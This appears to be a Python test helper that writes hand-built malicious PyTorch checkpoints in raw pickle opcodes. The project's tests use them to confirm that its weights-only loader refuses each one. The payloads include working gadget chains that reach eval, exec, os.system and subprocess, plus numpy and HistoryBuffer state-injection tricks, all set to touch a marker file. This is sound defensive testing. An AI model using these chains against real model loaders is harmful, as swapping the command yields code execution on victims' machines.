# Copyright (c) nl1d contributors. All rights reserved.
"""Hand-crafted malicious checkpoints, written with raw pickle opcodes.

Each payload is a ``torch.save`` zip archive whose ``data.pkl`` is replaced
by an opcode stream that, if a loader let it through, would create a marker
file (``touch MARKER``) or plant a callable for later. The streams use only
the opcodes torch's weights-only unpickler understands, so a refusal is a
decision of the allow-list (or of nl1d's stand-ins), not a parse error.

Used by ``tests/checkpoint/test_checkpoint_attacks.py`` in-process and by its
driver subprocesses (``python tests/checkpoint/checkpoint_payloads.py``).
"""
import os.path as osp
import struct
import zipfile
from typing import Callable, Dict, List, Tuple

import torch

# pickle opcodes (protocol 2)
PROTO, STOP = b'\x80\x02', b'.'
MARK, TUPLE, EMPTY_TUPLE, EMPTY_DICT = b'(', b't', b')', b'}'
TUPLE1, TUPLE2, TUPLE3 = b'\x85', b'\x86', b'\x87'
REDUCE, BUILD, NEWOBJ, SETITEM = b'R', b'b', b'\x81', b's'
NEWFALSE, NEWTRUE, NONE = b'\x89', b'\x88', b'N'


def glob(module: str, name: str) -> bytes:
    """GLOBAL module.name."""
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode('utf-8')
    return b'X' + struct.pack('<I', len(data)) + data


def integer(value: int) -> bytes:
    """BININT."""
    return b'J' + struct.pack('<i', value)


def put(i: int) -> bytes:
    """BINPUT i (keep the top of the stack in the memo)."""
    return b'q' + bytes([i])


def get(i: int) -> bytes:
    """BINGET i."""
    return b'h' + bytes([i])


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) via REDUCE."""
    return func + MARK + b''.join(args) + TUPLE + REDUCE


def latin1(data: bytes) -> bytes:
    """bytes, the way protocol 2 writes them: _codecs.encode(str, latin1)."""
    return call(
        glob('_codecs', 'encode'), text(data.decode('latin1')),
        text('latin1'))


def checkpoint(payload: bytes) -> bytes:
    """``{'state_dict': {}, 'meta': <payload>}`` as a pickle stream."""
    return (PROTO + EMPTY_DICT + text('state_dict') + EMPTY_DICT + SETITEM +
            text('meta') + payload + SETITEM + STOP)


def shell(marker: str) -> str:
    return f"__import__('os').system('touch {marker}')"


def getattr_chain(marker: str) -> bytes:
    """builtins.getattr + torch._tensor._rebuild_from_type_v2 (allowed by
    torch by default, calls its first argument) reach eval: the gadget chain
    that ran a shell command through nl1d's old process-wide allow-list.

    getattr(_rebuild_from_type_v2, '__globals__').get('__builtins__')
    .get('eval')(code), each call made by _rebuild_from_type_v2.
    """
    ga = glob('builtins', 'getattr') + put(0)
    rebuild = glob('torch._tensor', '_rebuild_from_type_v2') + put(1)
    # module globals of torch._tensor, and their dict.get
    globs = call(ga, rebuild, text('__globals__')) + put(2)
    dict_type = call(get(0), get(2), text('__class__')) + put(3)
    dict_get = call(get(0), get(2), text('get')) + put(4)
    # __builtins__ (a dict in an imported module)
    builtins_dict = call(get(1), dict_get, get(3),
                         text('__builtins__') + TUPLE1, EMPTY_DICT) + put(5)
    builtins_get = call(get(0), get(5), text('get')) + put(6)
    fn_type = call(get(0), get(0), text('__class__')) + put(7)
    eval_fn = call(get(1), builtins_get, fn_type,
                   text('eval') + TUPLE1, EMPTY_DICT) + put(8)
    int_type = call(get(0), integer(0), text('__class__')) + put(9)
    return ga + rebuild + globs + dict_type + builtins_dict + call(
        get(1), eval_fn, int_type, text(shell(marker)) + TUPLE1, EMPTY_DICT)


def builtins_attr(marker: str) -> bytes:
    """getattr(a torch function, '__builtins__')['exec'](code): a function's
    ``__builtins__`` reached through getattr."""
    ga = glob('builtins', 'getattr') + put(0)
    rebuild = glob('torch._tensor', '_rebuild_from_type_v2') + put(1)
    builtins_dict = call(
        ga, glob('torch._utils', '_rebuild_tensor_v2'),
        text('__builtins__')) + put(2)
    dict_type = call(get(0), get(2), text('__class__')) + put(3)
    dict_get = call(get(0), get(2), text('get')) + put(4)
    fn_type = call(get(0), get(0), text('__class__')) + put(5)
    exec_fn = call(get(1), dict_get, fn_type, text('exec') + TUPLE1,
                   EMPTY_DICT) + put(6)
    none_type = call(get(0), NONE, text('__class__')) + put(7)
    return ga + rebuild + builtins_dict + dict_type + call(
        get(1), exec_fn, none_type, text(shell(marker)) + TUPLE1, EMPTY_DICT)


def os_system(marker: str) -> bytes:
    """os.system(cmd) as a GLOBAL."""
    return call(glob('os', 'system'), text(f'touch {marker}'))


def posix_system(marker: str) -> bytes:
    """posix.system(cmd), the name os.system pickles to on Linux."""
    return call(glob('posix', 'system'), text(f'touch {marker}'))


def subprocess_call(marker: str) -> bytes:
    """subprocess.check_call(['touch', marker])."""
    args = b']' + MARK + text('touch') + text(marker) + b'e'  # a list
    return call(glob('subprocess', 'check_call'), args)


def builtins_eval(marker: str) -> bytes:
    """builtins.eval(code) as a GLOBAL."""
    return call(glob('builtins', 'eval'), text(shell(marker)))


def numpy_foreign_subtype(marker: str) -> bytes:
    """numpy's _reconstruct with another class than ndarray as the subtype
    (numpy would build an instance of it), followed by a BUILD."""
    return call(
        glob('numpy.core.multiarray', '_reconstruct'),
        glob('collections', 'OrderedDict'), integer(0) + TUPLE1,
        latin1(b'b')) + EMPTY_DICT + BUILD


def numpy_object_dtype(marker: str) -> bytes:
    """An array of dtype object: its raw bytes would be read as pointers."""
    dtype = call(glob('numpy', 'dtype'), text('O'), NEWFALSE, NEWTRUE)
    state = MARK + integer(1) + integer(1) + TUPLE1 + dtype + NEWFALSE + \
        latin1(b'\x00' * 8) + TUPLE
    return call(
        glob('numpy.core.multiarray', '_reconstruct'),
        glob('numpy', 'ndarray'), integer(0) + TUPLE1,
        latin1(b'b')) + state + BUILD


def history_buffer_state(marker: str) -> bytes:
    """BUILD on HistoryBuffer (an allow-listed class for mmengine
    checkpoints) with attacker state: a callable planted as its 'mean'
    statistic, which mmengine's HistoryBuffer.__setstate__ would merge into
    the class-wide table the message hub calls during training."""
    state = EMPTY_DICT + text('statistics_methods') + EMPTY_DICT + \
        text('mean') + glob('torch._tensor', '_rebuild_from_type_v2') + \
        SETITEM + SETITEM + text('max_length') + integer(10) + SETITEM
    return glob('mmengine.logging.history_buffer', 'HistoryBuffer') + \
        EMPTY_TUPLE + NEWOBJ + state + BUILD


def dtype_state(marker: str) -> bytes:
    """BUILD on numpy.dtype with a state that turns a plain float dtype into
    a structured one (fields, flags)."""
    fields = EMPTY_DICT + text('a') + MARK + call(
        glob('numpy', 'dtype'), text('f8'), NEWFALSE, NEWTRUE) + \
        integer(0) + TUPLE + SETITEM
    state = MARK + integer(3) + text('|') + NONE + MARK + text('a') + \
        TUPLE + fields + integer(8) + integer(1) + integer(63) + TUPLE
    return call(glob('numpy', 'dtype'), text('f8'), NEWFALSE, NEWTRUE) + \
        state + BUILD


def nested_reduce(marker: str) -> bytes:
    """An allow-listed constructor (numpy.dtype) called on the result of a
    nested REDUCE that reads an attribute (getattr(dtype, '__class__'))."""
    inner = call(
        glob('builtins', 'getattr'), glob('numpy', 'dtype'),
        text('__class__'))
    return call(glob('numpy', 'dtype'), inner)


def constructor_args(marker: str) -> bytes:
    """REDUCE on HistoryBuffer with constructor arguments (a nested REDUCE
    building them): mmengine checkpoints only ever BUILD it from state."""
    inner = call(glob('collections', 'OrderedDict'))
    return call(
        glob('mmengine.logging.history_buffer', 'HistoryBuffer'), inner)


#: name -> (builder, what the refusal must name)
PAYLOADS: Dict[str, Tuple[Callable[[str], bytes], str]] = {
    'getattr_chain': (getattr_chain, 'builtins.getattr'),
    'builtins_attr': (builtins_attr, '__builtins__'),
    'os_system': (os_system, 'os.system'),
    'posix_system': (posix_system, 'posix.system'),
    'subprocess_call': (subprocess_call, 'subprocess.check_call'),
    'builtins_eval': (builtins_eval, 'eval'),
    'numpy_foreign_subtype': (numpy_foreign_subtype, '_reconstruct'),
    'numpy_object_dtype': (numpy_object_dtype, 'numpy.dtype'),
    'history_buffer_state': (history_buffer_state, 'statistics_methods'),
    'dtype_state': (dtype_state, 'numpy.dtype'),
    'nested_reduce': (nested_reduce, 'builtins.getattr'),
    'constructor_args': (constructor_args, 'HistoryBuffer'),
}


def write_checkpoint(path: str, pickle_bytes: bytes) -> str:
    """A ``torch.save`` archive at ``path`` whose data.pkl is
    ``pickle_bytes``."""
    torch.save({'state_dict': {}}, path)
    with zipfile.ZipFile(path) as src:
        entries = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info, data in entries:
            if info.filename.endswith('/data.pkl'):
                data = pickle_bytes
            dst.writestr(info.filename, data)
    return path


def write_payloads(folder: str) -> List[Tuple[str, str, str, str]]:
    """Every payload as ``folder/NAME.pth``, each with its own marker.

    Returns:
        list[tuple]: ``(name, path, marker, expected)`` per payload.
    """
    written = []
    for name, (build, expected) in PAYLOADS.items():
        marker = osp.join(folder, f'pwned_{name}')
        path = write_checkpoint(
            osp.join(folder, f'{name}.pth'), checkpoint(build(marker)))
        written.append((name, path, marker, expected))
    return written
